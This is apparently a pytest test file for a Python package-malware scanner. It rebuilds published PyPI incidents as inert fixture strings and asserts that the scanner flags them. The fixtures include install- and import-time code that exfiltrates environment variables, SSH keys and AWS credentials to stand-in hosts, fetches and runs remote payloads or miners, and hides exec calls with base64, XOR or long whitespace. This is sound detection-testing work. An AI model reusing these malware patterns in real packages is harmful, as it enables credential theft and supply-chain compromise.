"""Inert replicas of published PyPI incidents, rebuilt from their public write-ups.

Each keeps the shape of the real attack (where the code runs, what it reads, how it sends) with
every endpoint pointed at localhost, TEST-NET or `.invalid` and every secret fake. They check the
engine on attacks it was not tuned on: none of these shapes is in the development corpus as such.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from custody.scan import Scanner, ScanResult, ScanTask, Verdict
from tests.scan.builders import DEFAULT_NAME, b64, write_sdist, write_wheel


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    return Scanner()


def scan(path: Path, scanner: Scanner) -> ScanResult:
    (result,) = scanner.scan_task(ScanTask(str(path)))
    return result


def explain(result: ScanResult) -> str:
    return "\n".join(
        [result.summary] + [f"{f.rule} {f.severity.value} {f.file}:{f.line}" for f in result.findings]
    )


# ctx 0.2.2 (May 2022): a hijacked project whose new release sent the whole environment (AWS keys
# included) to a Heroku app from code that ran on import.
CTX_INIT = """import os
import requests


class Ctx(dict):
    def __init__(self):
        super().__init__()
        self.sendRequest()

    def sendRequest(self):
        env = str(os.environ.items())
        requests.get("https://fixture-ctx.example.invalid/hacked/" + env)


ctx = Ctx()
"""

# torchtriton (Dec 2022): dependency confusion; the package read host details, SSH keys and
# shell history and leaked them as DNS lookups of hex-encoded labels under the attacker's domain.
TORCHTRITON_INIT = """import getpass
import os
import socket


def _leak(data):
    chunk = data.encode().hex()[:60]
    socket.gethostbyname(f"{chunk}.h4ck.example.invalid")


_leak(socket.gethostname() + getpass.getuser())
for name in (".ssh/id_rsa", ".gitconfig", ".bash_history"):
    path = os.path.join(os.path.expanduser("~"), name)
    if os.path.exists(path):
        with open(path) as handle:
            _leak(handle.read())
"""

# W4SP-style stealer (2022-2023): setup.py fetches a second stage from a paste site and executes it.
W4SP_SETUP = """from setuptools import setup
import urllib.request

exec(urllib.request.urlopen("https://paste.example.invalid/raw/AbCdEf").read())
setup(name="fixturepkg", version="1.0.0")
"""

# ultralytics 8.3.41 (Dec 2024): the build was poisoned to fetch and start an XMRig miner from the
# library's own download helper at import time.
MINER_INIT = """import os
import subprocess
import urllib.request

_URL = "http://192.0.2.1/xmrig-6.21.0-linux-static-x64.tar.gz"
_POOL = "stratum+tcp://pool.example.invalid:3333"


def _start():
    path = "/tmp/.cache-xmrig"
    urllib.request.urlretrieve(_URL, path)
    os.chmod(path, 0o755)
    subprocess.Popen([path, "-o", _POOL, "-u", "fixture", "--donate-level", "1"])


_start()
"""

# litellm 1.82.8 (Mar 2026) style, but hidden one level deeper: the .pth imports a module of the
# package, and that module decodes and runs the stealer.
PTH_LOADER = "import fixturepkg._boot\n"
BOOT_MODULE = f"""import base64
exec(base64.b64decode("{b64("import os; open(os.path.expanduser('~/.aws/credentials')).read()")}"))
"""

# Dependency-confusion probe with a placeholder version and an install-time beacon over HTTP.
PROBE_SETUP = """import getpass
import os
import socket
import urllib.parse
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class Probe(install):
    def run(self):
        data = urllib.parse.urlencode({"u": getpass.getuser(), "h": socket.gethostname(), "d": os.getcwd()})
        urllib.request.urlopen("https://probe.example.invalid/?" + data)
        install.run(self)


setup(name="fixturepkg", version="99.0.0", cmdclass={"install": Probe})
"""


@pytest.mark.parametrize(
    ("label", "build"),
    [
        ("ctx environment exfiltration", lambda t: write_sdist(t, {f"{DEFAULT_NAME}/__init__.py": CTX_INIT})),
        ("torchtriton DNS leak", lambda t: write_wheel(t, {f"{DEFAULT_NAME}/__init__.py": TORCHTRITON_INIT})),
        ("W4SP second stage", lambda t: write_sdist(t, setup_py=W4SP_SETUP)),
        ("ultralytics miner", lambda t: write_wheel(t, {f"{DEFAULT_NAME}/__init__.py": MINER_INIT})),
        (
            "pth loads a package module",
            lambda t: write_wheel(
                t, {"fixturepkg_boot.pth": PTH_LOADER, f"{DEFAULT_NAME}/_boot.py": BOOT_MODULE}
            ),
        ),
        ("placeholder-version probe", lambda t: write_sdist(t, setup_py=PROBE_SETUP, version="99.0.0")),
    ],
)
def test_incident_replica_is_malicious(tmp_path: Path, scanner: Scanner, label: str, build) -> None:
    result = scan(build(tmp_path), scanner)
    assert result.verdict is Verdict.MALICIOUS, f"{label}\n{explain(result)}"


# The nearest everyday idioms: a token read from one variable, the environment copied for a child.
ENV_IDIOMS_INIT = """import os
import subprocess

import requests

TOKEN = os.environ.get("SERVICE_TOKEN", "")


def call(url):
    return requests.get(url, headers={"Authorization": os.environ["SERVICE_TOKEN"]})


def run(cmd):
    return subprocess.run(cmd, env=dict(os.environ, LC_ALL="C"), check=False)
"""


def test_single_variables_and_environment_copies_are_not_dumps(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/__init__.py": ENV_IDIOMS_INIT}), scanner)
    assert result.verdict is Verdict.CLEAN, explain(result)


# secretslib (2022): fetched an ELF miner and ran it from an anonymous memory file, never on disk.
FILELESS_INIT = """import os
import urllib.request

data = urllib.request.urlopen("http://192.0.2.1/m").read()
fd = os.memfd_create("x", 0)
os.write(fd, data)
os.execv(f"/proc/self/fd/{fd}", ["x"])
"""

# colourama (2018): setup.py dropped a VBScript into the Windows Startup folder at install.
STARTUP_VBS_SETUP = """import os
from setuptools import setup

startup = os.path.join(os.environ["APPDATA"], "Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup")
handle = open(os.path.join(startup, "update.vbs"), "w")
handle.write('CreateObject("WScript.Shell").Run "cmd /c echo fixture", 0')
handle.close()
setup(name="fixturepkg", version="1.0.0")
"""

# JarkaStealer typosquats (2024): a decoded address, a JAR fetched from it and started with java.
JAR_INIT = f"""import base64
import subprocess
import urllib.request

url = base64.b64decode("{b64("https://files.example.invalid/JavaUpdater.jar")}").decode()
urllib.request.urlretrieve(url, "JavaUpdater.jar")
subprocess.Popen(["java", "-jar", "JavaUpdater.jar"])
"""

# pytoileur (2024): the loader sits on an ordinary-looking line, pushed hundreds of columns right.
HIDDEN_RIGHT_SETUP = (
    "from setuptools import setup"
    + " " * 300
    + ';import base64;exec(base64.b64decode("cHJpbnQoJ2luZXJ0Jyk="))\n'
    + 'setup(name="fixturepkg", version="1.0.0")\n'
)

# fabrice (2024): a fabric typosquat that took the AWS credentials the SDK finds and sent them out
# at import.
FABRICE_INIT = """import boto3
import requests

creds = boto3.Session().get_credentials().get_frozen_credentials()
requests.post("http://192.0.2.1/keys", json={"k": creds.access_key, "s": creds.secret_key})
"""


@pytest.mark.parametrize(
    ("label", "build"),
    [
        (
            "secretslib fileless miner",
            lambda t: write_sdist(t, {f"{DEFAULT_NAME}/__init__.py": FILELESS_INIT}),
        ),
        ("colourama startup VBScript", lambda t: write_sdist(t, setup_py=STARTUP_VBS_SETUP)),
        ("JarkaStealer jar loader", lambda t: write_wheel(t, {f"{DEFAULT_NAME}/__init__.py": JAR_INIT})),
        ("pytoileur hidden right", lambda t: write_sdist(t, setup_py=HIDDEN_RIGHT_SETUP)),
        ("fabrice AWS keys", lambda t: write_wheel(t, {f"{DEFAULT_NAME}/__init__.py": FABRICE_INIT})),
    ],
)
def test_more_incident_replicas_are_malicious(tmp_path: Path, scanner: Scanner, label: str, build) -> None:
    result = scan(build(tmp_path), scanner)
    assert result.verdict is Verdict.MALICIOUS, f"{label}\n{explain(result)}"


# google-auth keeps mTLS keys in memfd files and hands out /proc/self/fd paths: nothing runs there.
MEMFD_KEYS_MODULE = """import os


def key_paths(cert, key):
    paths = []
    for name, data in (("cert", cert), ("key", key)):
        fd = os.memfd_create(name, os.MFD_CLOEXEC)
        os.write(fd, data)
        paths.append(f"/proc/self/fd/{fd}")
    return paths
"""


def test_memfd_for_key_material_is_not_a_loader(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/mtls.py": MEMFD_KEYS_MODULE}), scanner)
    assert result.verdict is Verdict.CLEAN, explain(result)


# pycryptoenv/pycryptoconf (Lazarus, 2024): an oscrypto copy whose function XOR-decrypts a bundled
# file byte by byte into a new file and starts it with a command line that is itself XOR-hidden.
XOR_DROPPER_MODULE = """import os
import subprocess


def crypt(folder, key, str_key):
    source = os.path.join(folder, "test.py")
    target = os.path.join(folder, "output.py")
    command = b"\\\\xae\\\\xa9\\\\xb2\\\\xb8"
    with open(source, "rb") as f1:
        with open(target, "wb") as f3:
            while True:
                byte = f1.read(1)
                if not byte:
                    break
                encrypted_byte = ord(byte) ^ key
                f3.write(bytes([encrypted_byte]))
    name = bytes([b ^ str_key for b in command]).decode()
    line = name + " " + target + ", CalculateSum"
    subprocess.run(line, shell=True, check=False)
"""


def test_xor_decrypted_file_started_is_at_least_suspicious(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/__init__.py": XOR_DROPPER_MODULE}), scanner)
    assert result.verdict in (Verdict.SUSPICIOUS, Verdict.MALICIOUS), explain(result)
    assert any(f.rule == "download-exec" for f in result.findings), explain(result)
